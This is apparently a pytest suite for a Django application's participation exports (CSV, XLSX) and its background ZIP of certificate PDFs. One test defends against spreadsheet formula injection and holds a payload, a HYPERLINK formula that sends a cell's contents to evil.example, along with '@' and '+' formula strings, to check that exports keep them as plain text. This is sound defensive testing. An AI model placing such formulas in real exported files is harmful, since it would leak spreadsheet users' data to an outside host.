"""What the contact person takes away: the participation as CSV and XLSX (safe to open in a
spreadsheet), and the ZIP of the members' certificates built in the background."""

import csv
import io
import json
import zipfile
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from certificates.models import Certificate
from institutions.models import CertificateExport, ExportStatus, InstitutionEvent
from tests.institutions.test_contact_page import url
from tests.institutions.test_participation import (  # noqa: F401 (fixture)
    YEAR,
    home,
    issue,
    member_of,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'


@pytest.fixture
def signed_in(client, home):  # noqa: F811
    client.force_login(home["contact"])
    return client


def _csv_rows(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_csv_has_one_row_per_member_and_a_total(signed_in, home):  # noqa: F811
    response = signed_in.get(url("participation_csv", home["institution"].pk, YEAR))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert "private" in response["Cache-Control"]
    header, *members, total = _csv_rows(response)
    assert header[:8] == [
        "Name",
        "Profession",
        "Certificates",
        "Hours individual",
        "Hours together",
        "Hours total",
        "Group minimum met",
        "Group sessions attended",
    ]
    by_name = {row[0]: row for row in members}
    assert set(by_name) == {"Anne Assistent", "Kari Kontakt", "Per Pleier"}
    assert by_name["Per Pleier"][1:8] == ["Sykepleier", "2", "2.00", "1.50", "3.50", "Yes", "1"]
    assert by_name["Per Pleier"][8] == "Smittevern; Intervju om antibiotikastyring"
    assert by_name["Anne Assistent"][3:7] == ["3.00", "0.00", "3.00", "No"]
    assert total[0] == "Total (3 members)"
    assert total[3:8] == ["5.00", "3.00", "8.00", "2 (66.66 %)", "1"]


def test_xlsx_has_the_members_and_their_certificates(signed_in, home):  # noqa: F811
    response = signed_in.get(url("participation_xlsx", home["institution"].pk, YEAR))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    members, certificates = workbook.worksheets
    assert members.title == f"Participation {YEAR}"
    rows = list(members.iter_rows(values_only=True))
    assert rows[0][0] == "Name"
    per = next(row for row in rows if row[0] == "Per Pleier")
    assert per[1:8] == ("Sykepleier", 2, 2, 1.5, 3.5, "Yes", 1)
    assert rows[-1][3:6] == (5, 3, 8)

    listed = {
        (row[0], row[1], row[5]) for row in certificates.iter_rows(min_row=2, values_only=True)
    }
    assert listed == {
        ("Per Pleier", "Smittevern", "No"),
        ("Per Pleier", "Intervju om antibiotikastyring", "Yes"),
        ("Kari Kontakt", "Intervju om antibiotikastyring", "Yes"),
        ("Anne Assistent", "Smittevern", "No"),
    }
    dates = [row[2] for row in certificates.iter_rows(min_row=2, values_only=True)]
    assert all(value.year == YEAR for value in dates)


def test_a_name_that_looks_like_a_formula_stays_text(signed_in, home):  # noqa: F811
    sly = member_of(home["institution"], FORMULA)
    issue(sly, "course:1", individual="1", title="@SUM(1+1)")
    issue(sly, "course:2", individual="1", title="+1-2")
    institution = home["institution"].pk

    rows = _csv_rows(signed_in.get(url("participation_csv", institution, YEAR)))
    row = next(row for row in rows if "HYPERLINK" in row[0])
    assert row[0] == "'" + FORMULA
    assert row[8] == "'@SUM(1+1); +1-2"
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@")), cell

    workbook = openpyxl.load_workbook(
        io.BytesIO(signed_in.get(url("participation_xlsx", institution, YEAR)).content)
    )
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", cell.coordinate
    names = [row[0].value for row in workbook.worksheets[0].iter_rows()]
    assert FORMULA in names  # kept as the text it is
    titles = [row[1].value for row in workbook.worksheets[1].iter_rows()]
    assert "@SUM(1+1)" in titles


def _start(client, institution, capture, year=YEAR):
    with capture(execute=True):
        return client.post(url("certificate_export_start", institution.pk, year))


def test_zip_holds_exactly_the_members_valid_certificates_of_the_year(
    signed_in,
    home,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    institution = home["institution"]
    response = _start(signed_in, institution, django_capture_on_commit_callbacks)
    export = CertificateExport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == url("export_progress", institution.pk, export.uuid)
    assert export.status == ExportStatus.DONE
    assert (export.done, export.total) == (4, 4)
    assert InstitutionEvent.objects.filter(institution=institution, kind="export_made").count() == 1

    status = json.loads(signed_in.get(url("export_status", institution.pk, export.uuid)).content)
    assert status["finished"] and status["percent"] == 100
    assert status["download_url"] == url("export_download", institution.pk, export.uuid)
    progress = signed_in.get(response["Location"]).content.decode()
    assert "The ZIP file is ready." in progress
    assert 'http-equiv="refresh"' not in progress

    download = signed_in.get(status["download_url"])
    assert download.status_code == 200
    assert download["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    expected = Certificate.objects.filter(
        holder__in=[home["contact"], home["per"], home["anne"]],
        activity_date__year=YEAR,
        revoked_at=None,
        superseded_by__isnull=True,
    )
    assert expected.count() == 4
    names = archive.namelist()
    assert sorted(name.rsplit("-", 1)[1] for name in names) == sorted(
        f"{certificate.code}.pdf" for certificate in expected
    )
    assert {name.split("/")[0] for name in names} == {
        "Kari Kontakt",
        "Per Pleier",
        "Anne Assistent",
    }
    for name in names:
        assert archive.read(name).startswith(b"%PDF")
    # The certificates whose PDFs were not made yet have them now, stored once.
    assert not expected.filter(pdf_sha256="").exists()


def test_a_failed_build_says_why(signed_in, home, django_capture_on_commit_callbacks):  # noqa: F811
    certificate = Certificate.objects.get(holder=home["anne"])
    Certificate.objects.filter(pk=certificate.pk).update(
        pdf="certificates/gone.pdf", pdf_sha256="0" * 64
    )
    response = _start(signed_in, home["institution"], django_capture_on_commit_callbacks)
    export = CertificateExport.objects.get()
    assert export.status == ExportStatus.FAILED
    assert not export.file
    page = signed_in.get(response["Location"]).content.decode()
    with translation.override("en"):
        assert "The ZIP file could not be made" in page
    assert certificate.code_formatted in page and "Anne Assistent" in page
    # A new try is offered (and would start a new export).
    assert url("certificate_export_start", home["institution"].pk, YEAR) in page
    assert signed_in.get(url("export_download", home["institution"].pk, export.uuid))[
        "Location"
    ] == url("export_progress", home["institution"].pk, export.uuid)


def test_a_year_without_certificates_starts_nothing(
    signed_in,
    home,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    response = _start(signed_in, home["institution"], django_capture_on_commit_callbacks, YEAR - 3)
    assert response.status_code == 302
    assert response["Location"].endswith(f"?year={YEAR - 3}")
    assert not CertificateExport.objects.exists()
    page = signed_in.get(response["Location"]).content.decode()
    assert f"No member has a valid certificate from {YEAR - 3}." in page


def test_an_unfinished_export_is_followed_not_started_again(signed_in, home):  # noqa: F811
    queued = CertificateExport.objects.create(
        institution=home["institution"], year=YEAR, requested_by=home["contact"], total=4, done=1
    )
    response = signed_in.post(url("certificate_export_start", home["institution"].pk, YEAR))
    assert response["Location"] == url("export_progress", home["institution"].pk, queued.uuid)
    assert CertificateExport.objects.count() == 1

    page = signed_in.get(response["Location"]).content.decode()
    assert '<progress id="export-progress" max="100" value="25"' in page
    assert '<noscript><meta http-equiv="refresh" content="3"></noscript>' in page
    assert "institutions/export-progress.js" in page
    status = json.loads(
        signed_in.get(url("export_status", home["institution"].pk, queued.uuid)).content
    )
    assert status == {
        "status": "queued",
        "status_label": "Queued",
        "done": 1,
        "total": 4,
        "percent": 25,
        "finished": False,
        "replaced": False,
        "error": "",
        "download_url": "",
    }
    # Not done yet: the download address sends back to the progress page.
    download = signed_in.get(url("export_download", home["institution"].pk, queued.uuid))
    assert download["Location"] == url("export_progress", home["institution"].pk, queued.uuid)


def test_building_twice_packs_once(home, django_capture_on_commit_callbacks):  # noqa: F811
    from institutions.exports import certificate_export_build, certificate_export_start

    with django_capture_on_commit_callbacks(execute=True):
        export = certificate_export_start(institution=home["institution"], year=YEAR, by=None)
    first = CertificateExport.objects.get(pk=export.pk)
    again = certificate_export_build(export_id=export.pk)
    assert again.status == ExportStatus.DONE and again.file.name == first.file.name
    assert again.total == 4 and Decimal(again.progress_percent) == 100


def test_an_export_whose_job_died_is_given_up_and_started_anew(
    signed_in,
    home,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    from django.utils import timezone

    institution = home["institution"]
    stuck = CertificateExport.objects.create(
        institution=institution,
        year=YEAR,
        status=ExportStatus.RUNNING,
        total=4,
        done=2,
        requested_at=timezone.now() - timedelta(minutes=31),
    )
    page = signed_in.get(url("export_progress", institution.pk, stuck.uuid)).content.decode()
    assert "The ZIP file could not be made" in page
    assert "was not finished in time" in page
    stuck.refresh_from_db()
    assert stuck.status == ExportStatus.RUNNING  # reading wrote nothing

    response = _start(signed_in, institution, django_capture_on_commit_callbacks)
    stuck.refresh_from_db()
    assert stuck.status == ExportStatus.FAILED
    fresh = CertificateExport.objects.exclude(pk=stuck.pk).get()
    assert response["Location"] == url("export_progress", institution.pk, fresh.uuid)
    assert fresh.status == ExportStatus.DONE


@pytest.mark.s3
def test_on_s3_the_zip_is_stored_there_and_fetched_by_a_private_redirect(
    signed_in,
    home,  # noqa: F811
    s3_storage,
    django_capture_on_commit_callbacks,
):
    import urllib.request

    response = _start(signed_in, home["institution"], django_capture_on_commit_callbacks)
    export = CertificateExport.objects.get()
    assert export.status == ExportStatus.DONE, export.error
    assert response.status_code == 302
    download = signed_in.get(url("export_download", home["institution"].pk, export.uuid))
    assert download.status_code == 302
    assert "private" in download["Cache-Control"]
    with urllib.request.urlopen(download["Location"]) as stored:  # noqa: S310 (test's own S3)
        archive = zipfile.ZipFile(io.BytesIO(stored.read()))
    assert len(archive.namelist()) == 4


def test_a_newer_zip_of_the_year_deletes_the_earlier_ones_file(
    signed_in,
    home,  # noqa: F811
    django_capture_on_commit_callbacks,
):
    """A ZIP holds every member's certificates: only the newest of a year is kept. The earlier
    export's row stays as the record of who asked; its file is gone and its page says so."""
    from django.core.files.storage import default_storage

    from institutions.exports import certificate_export_start

    with django_capture_on_commit_callbacks(execute=True):
        first = certificate_export_start(institution=home["institution"], year=YEAR, by=None)
    first.refresh_from_db()
    old_name = first.file.name
    assert default_storage.exists(old_name)

    with django_capture_on_commit_callbacks(execute=True):
        second = certificate_export_start(institution=home["institution"], year=YEAR, by=None)
    second.refresh_from_db()
    first.refresh_from_db()

    assert second.pk != first.pk and second.status == ExportStatus.DONE
    assert default_storage.exists(second.file.name)
    assert not first.file and not default_storage.exists(old_name)
    with translation.override("en"):
        page = signed_in.get(url("export_progress", first.institution_id, first.uuid))
        assert "replaced by a newer one" in page.content.decode()
        download = signed_in.get(url("export_download", first.institution_id, first.uuid))
    assert download.status_code == 302
